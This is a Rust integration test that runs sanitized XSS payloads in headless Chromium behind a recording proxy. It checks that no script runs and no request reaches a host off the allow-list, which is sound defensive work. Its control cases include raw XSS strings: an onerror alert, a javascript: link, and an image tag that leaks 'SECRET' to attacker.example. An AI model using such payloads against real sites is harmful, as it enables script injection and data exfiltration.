//! Every sanitized XSS payload, rendered in headless Chromium inside a page that records
//! any script execution (canaries: `alert`, `confirm`, `prompt`, `print`) and, through a
//! proxy that sees every request, any request to a host off the allow-list. Links are
//! clicked, elements hovered and focused, forms submitted.
//!
//! Needs Debian's `chromium` (`.ci/run` installs it). Without it the test fails under
//! `CI=true` and is skipped, loudly, elsewhere.
#![cfg(all(feature = "sanitize-html", feature = "axum"))]

#[path = "support/corpus.rs"]
mod corpus;

use std::{
    process::Command,
    sync::{Arc, Mutex},
};

use axum::{Router, body::Body, extract::Request, response::Response};
use http::{Method, StatusCode, header};
use tower_harden::sanitize::html::{HtmlSanitizer, LinkHosts};

const PAGE_HOST: &str = "page.test";
const MEDIA_HOST: &str = "cdn.travelcms.example";

/// What the proxy and the page's canaries saw.
#[derive(Default)]
struct Seen {
    canaries: Vec<String>,
    done: usize,
    off_list: Vec<String>,
}

struct Site {
    cases: Vec<String>,
    seen: Mutex<Seen>,
}

/// Records a request and answers it: the test pages for the page host, nothing for
/// anyone else.
async fn handle(site: Arc<Site>, request: Request) -> Response {
    let host = request
        .uri()
        .host()
        .map(str::to_owned)
        .or_else(|| {
            let host = request.headers().get(header::HOST)?.to_str().ok()?;
            Some(host.split(':').next().unwrap_or(host).to_owned())
        })
        .unwrap_or_default();
    let deny = || {
        Response::builder()
            .status(StatusCode::FORBIDDEN)
            .body(Body::empty())
            .unwrap()
    };
    if request.method() == Method::CONNECT || host != PAGE_HOST {
        if host != MEDIA_HOST && !browser_infrastructure(&host) {
            site.seen.lock().unwrap().off_list.push(format!(
                "{} {}",
                request.method(),
                request.uri()
            ));
        }
        return deny();
    }
    let path = request.uri().path().to_owned();
    let query = request.uri().query().unwrap_or_default().to_owned();
    if path == "/report" {
        let mut seen = site.seen.lock().unwrap();
        if query.contains("kind=done") {
            seen.done += 1;
        } else {
            seen.canaries.push(query);
        }
        return deny();
    }
    let html = if path == "/all" {
        (0..site.cases.len())
            .map(|i| format!("<iframe src=\"/case/{i}\"></iframe>"))
            .collect()
    } else if let Some(case) = path
        .strip_prefix("/case/")
        .and_then(|n| n.parse::<usize>().ok())
    {
        match site.cases.get(case) {
            Some(content) => case_page(case, content),
            None => return deny(),
        }
    } else {
        // A same-site navigation (a relative link was clicked): harmless, and empty.
        String::new()
    };
    Response::builder()
        .header(header::CONTENT_TYPE, "text/html; charset=utf-8")
        .body(Body::from(html))
        .unwrap()
}

/// Chromium's own background traffic (component updates, time, sign-in), which no
/// payload causes; no corpus payload points at these hosts.
fn browser_infrastructure(host: &str) -> bool {
    ["google.com", "googleapis.com", "gstatic.com", "gvt1.com"]
        .iter()
        .any(|domain| host == *domain || host.ends_with(&format!(".{domain}")))
}

/// A page holding one sanitized payload, with canaries before it and actions after it.
fn case_page(case: usize, content: &str) -> String {
    format!(
        r#"<!doctype html><html><head><meta charset="utf-8"><script>
(function () {{
  function report(kind) {{ navigator.sendBeacon('/report?case={case}&kind=' + kind); }}
  window.__report = report;
  ['alert', 'confirm', 'prompt', 'print'].forEach(function (name) {{
    window[name] = function () {{ report(name); }};
  }});
}})();
</script></head><body><div id="payload">{content}</div><script>
window.addEventListener('load', function () {{
  var root = document.getElementById('payload');
  var events = ['mouseover', 'mouseenter', 'mousedown', 'mouseup', 'focus', 'focusin', 'blur',
                'toggle', 'animationstart', 'transitionend', 'pointerover', 'input', 'change'];
  root.querySelectorAll('*').forEach(function (el) {{
    events.forEach(function (type) {{ el.dispatchEvent(new Event(type, {{ bubbles: true }})); }});
    if (el.focus) {{ el.focus(); }}
  }});
  window.__report('done');
  root.querySelectorAll('form').forEach(function (form) {{
    try {{ form.requestSubmit(); }} catch (e) {{}}
  }});
  root.querySelectorAll('a, area').forEach(function (link) {{ link.click(); }});
}});
</script></body></html>"#
    )
}

fn chromium() -> Option<&'static str> {
    ["chromium", "chromium-browser", "google-chrome"]
        .into_iter()
        .find(|name| {
            Command::new(name)
                .arg("--version")
                .output()
                .is_ok_and(|o| o.status.success())
        })
}

/// Renders every case in Chromium through the recording proxy; returns what was seen.
async fn render(cases: Vec<String>, browser: &str) -> Seen {
    let site = Arc::new(Site {
        cases,
        seen: Mutex::default(),
    });
    let app = Router::new().fallback({
        let site = site.clone();
        move |request: Request| handle(site.clone(), request)
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = tokio::spawn(async move { axum::serve(listener, app).await });

    let profile = std::env::temp_dir().join(format!(
        "tower-harden-chromium-{}-{port}",
        std::process::id()
    ));
    let browser = browser.to_owned();
    let output = tokio::task::spawn_blocking(move || {
        Command::new("timeout")
            .arg("180")
            .arg(&browser)
            .args([
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--disable-extensions",
                "--disable-dev-shm-usage",
                "--virtual-time-budget=15000",
                "--disable-default-apps",
                "--disable-client-side-phishing-detection",
                "--no-default-browser-check",
                "--disable-domain-reliability",
            ])
            .arg(format!("--user-data-dir={}", profile.display()))
            .arg(format!("--proxy-server=http://127.0.0.1:{port}"))
            .arg("--proxy-bypass-list=<-loopback>")
            .arg("--dump-dom")
            .arg(format!("http://{PAGE_HOST}/all"))
            .output()
    })
    .await
    .unwrap()
    .expect("chromium runs");
    assert!(
        output.status.success(),
        "chromium failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    server.abort();
    std::mem::take(&mut *site.seen.lock().unwrap())
}

fn sanitized(sanitizer: &HtmlSanitizer, markdown: bool) -> Vec<String> {
    [corpus::cases("xss.txt"), corpus::cases("xss_extra.txt")]
        .concat()
        .iter()
        .map(|p| {
            if markdown {
                sanitizer.clean_markdown(p)
            } else {
                sanitizer.clean(p)
            }
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_sanitized_payload_runs_script_or_reaches_off_the_allow_list_in_a_browser() {
    let Some(browser) = chromium() else {
        assert!(
            std::env::var("CI").is_err(),
            "Chromium is required under CI=true: install the `chromium` package"
        );
        eprintln!(
            "SKIPPED: no Chromium on this machine (apt-get install chromium); CI runs this test"
        );
        return;
    };
    // The control: unsanitized payloads must trip the canaries and the proxy, or the
    // harness proves nothing.
    let raw = vec![
        "<img src=x onerror=alert(1)>".to_owned(),
        "<a href=\"javascript:print()\">x</a>".to_owned(),
        "<img src=\"https://attacker.example/p.png?q=SECRET\">".to_owned(),
    ];
    let control = render(raw, browser).await;
    assert!(
        control.canaries.len() >= 2,
        "the canaries must fire: {:?}",
        control.canaries
    );
    assert!(
        !control.off_list.is_empty(),
        "the proxy must see the exfiltration request"
    );

    let base = || {
        HtmlSanitizer::builder()
            .site(format!("http://{PAGE_HOST}/"))
            .image_hosts([MEDIA_HOST])
    };
    let default = base().build().unwrap();
    let strict = base()
        .link_hosts(LinkHosts::Only(Vec::new()))
        .build()
        .unwrap();

    for (policy, sanitizer) in [("default", &default), ("links on-site only", &strict)] {
        for markdown in [false, true] {
            let cases = sanitized(sanitizer, markdown);
            let count = cases.len();
            let seen = render(cases, browser).await;
            let how = format!("{policy}, {}", if markdown { "markdown" } else { "html" });
            println!(
                "{how}: {count} payloads, {} pages ran their actions, canaries {:?}, off-list requests {:?}",
                seen.done, seen.canaries, seen.off_list
            );
            assert!(
                seen.done >= count,
                "{how}: only {} of {count} pages ran",
                seen.done
            );
            assert!(
                seen.canaries.is_empty(),
                "{how}: script ran: {:?}",
                seen.canaries
            );
            if policy != "default" {
                // Under the default policy a reader's click may follow an https link
                // anywhere; with links restricted, nothing at all leaves the site.
                assert!(
                    seen.off_list.is_empty(),
                    "{how}: requests off the allow-list: {:?}",
                    seen.off_list
                );
            }
        }
    }
}
